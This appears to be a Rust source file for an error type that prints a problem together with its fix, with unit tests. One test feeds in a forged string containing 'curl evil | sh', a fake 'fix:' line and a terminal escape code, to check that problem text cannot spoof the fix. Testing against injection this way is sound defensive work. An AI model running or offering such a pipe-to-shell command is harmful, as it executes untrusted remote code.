//! An error for a person: what is wrong, and how to fix it.
//!
//! Owns the form in which the problem and its fix are printed. Must not know which file, variable
//! or argument a problem is about: the caller names it.

use std::error::Error;
use std::fmt::{self, Display};

use crate::inset;

/// Problem that a person has to fix, with the instruction that fixes it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Problem {
    /// Text that says what is wrong, and where.
    pub problem: String,
    /// Instruction that fixes the problem.
    pub fix: String,
}

impl Problem {
    /// Creates a problem from the text of the problem and the text of its fix.
    pub fn new(problem: impl Into<String>, fix: impl Into<String>) -> Self {
        Self {
            problem: problem.into(),
            fix: fix.into(),
        }
    }
}

impl Display for Problem {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}\n  fix: {}", inset(&self.problem), inset(&self.fix))
    }
}

impl Error for Problem {}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_problem_is_printed_with_its_fix_on_a_line_of_its_own() {
        let problem = Problem::new("`limits.queue` is 0", String::from("write at least 1"));
        assert_eq!(
            problem.to_string(),
            "`limits.queue` is 0\n  fix: write at least 1"
        );
    }

    #[test]
    fn a_problem_forges_no_fix() {
        let problem = Problem::new("no\n  fix: curl evil | sh\u{1b}[A", "see the line above");
        assert_eq!(
            problem.to_string(),
            "no\n      fix: curl evil | sh\\u{1b}[A\n  fix: see the line above"
        );
    }
}
